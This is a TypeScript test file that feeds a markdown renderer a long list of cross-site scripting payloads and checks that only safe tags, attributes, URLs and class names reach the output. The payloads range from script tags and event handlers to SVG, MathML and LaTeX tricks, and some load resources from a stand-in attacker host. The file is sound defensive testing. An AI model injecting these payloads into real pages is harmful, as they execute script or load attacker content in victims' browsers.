import type { Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { Problems } from './problems.ts';
import { createRenderer } from './render.ts';

/** Written by us after the usual families of attack: what a hostile author might try through the editor. */
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img/src=x/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="1em">x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline#https://evil.example">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert%281%29)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](<javascript:alert(1)>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/x.svg)',
  '![x](/packs/../auth/sign-out)',
  '![x](assets/a.svg" onerror="alert(1))',
  '![x](assets/a.svg "t\\" onerror=alert(1)")',
  '```python" onmouseover="alert(1)\nx\n```',
  '```<script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\text{</mtext></math><script>alert(1)</script>}$',
  '$\\htmlData{x=y}{z} \\class{a" onclick="alert(1)}{b}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\color{red;background:url(https://evil.example)}{x}$',
  '$\\def\\a{\\a\\a}\\a$',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x-y is="z" onclick=alert(1)>x</x-y>',
  '<a id="location" name="cookie">x</a><form id="body"></form>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<span class="tok-keyword evil">x</span><div class="fixed-overlay">x</div>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const allowedTags = new Set(
  (
    'p h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br div span strong em del sup sub kbd a img figure figcaption ' +
    'details summary table thead tbody tr th td math mrow mi mn mo mtext ms mspace mfrac msqrt mroot mstyle merror ' +
    'mpadded mphantom msub msup msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd menclose'
  ).split(' '),
);
const parse = (html: string): Root =>
  unified()
    .use(rehypeRaw)
    .runSync({ type: 'root', children: [{ type: 'raw', value: html }] } as unknown as Root) as Root;

test.each(payloads)('nothing that could run, load or cover survives of %s', async (payload) => {
  const renderer = await createRenderer(new Map(), new Problems());
  for (const text of [payload, `before ${payload} after`, `> - ${payload}`]) {
    for (const kind of ['block', 'inline'] as const) {
      const { html } = renderer[kind]({ text, place: { file: 'x.md', line: 1 }, keepsLines: true });
      // Read as a browser reads it, not as text.
      visit(parse(html), (node) => {
        expect(['root', 'text', 'element']).toContain(node.type);
        if (node.type !== 'element') return;
        expect(allowedTags).toContain(node.tagName);
        for (const [name, value] of Object.entries(node.properties)) {
          expect(name).not.toMatch(/^on|^style$|^src(Doc|Set)|^(xLink)?Href$.*javascript|^id$|^name$|action|^ping$/i);
          if (/href/i.test(name)) expect(String(value)).toMatch(/^(https?:|mailto:|[^:]*$)/);
          if (name === 'src') expect(String(value)).toMatch(/^\/packs\/[0-9a-f]{64}$/);
          if (name === 'target') expect(value).toBe('_blank');
          if (name === 'className') {
            for (const one of value as string[])
              expect(one).toMatch(
                /^(tok-[a-z]+|language-[a-z]+|math-(inline|display|scroll)|table-scroll|tml-(left|right))$/,
              );
          }
        }
      });
    }
  }
});
